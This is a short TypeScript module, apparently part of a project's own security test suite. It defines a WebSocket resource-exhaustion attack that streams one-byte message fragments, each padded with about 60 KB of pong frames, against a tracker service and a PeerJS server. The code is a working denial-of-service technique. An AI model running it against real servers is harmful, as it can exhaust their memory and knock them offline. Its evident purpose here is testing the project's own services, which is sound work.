// Each byte of a message in a frame of its own, with 60 KB of pongs behind it: a library that keeps what it has read keeps the pongs as well.
import { frame, OPCODE } from '../../../tracker/test/support/raw-client.ts';
import type { Attack } from '../attack.ts';
import { webSockets } from '../raw-socket.ts';

const PONG = 10;
const pongs = Buffer.concat(Array.from({ length: 460 }, () => frame('x'.repeat(125), { opcode: PONG })));
const first = Buffer.concat([frame('{', { opcode: OPCODE.text, isLast: false }), pongs]);
const next = Buffer.concat([frame(' ', { opcode: OPCODE.continuation, isLast: false }), pongs]);

const attackOn = (id: string, service: Attack['service'], path: (index: number) => string): Attack => ({
  id,
  title: 'one-byte fragments, 60 KB of pongs behind each',
  service,
  run: ({ port }) =>
    webSockets(
      port,
      async (socket) => {
        await socket.send(first);
        while (socket.isOpen) await socket.send(next);
      },
      { path },
    ),
});

export const onTracker: Attack = { ...attackOn('1a', 'tracker', () => '/'), isShort: true };
export const onPeerjs = attackOn(
  '1b',
  'peerjs',
  (index) => `/peerjs?key=peerjs&id=attacker${index}&token=token&version=1.5.5`,
);
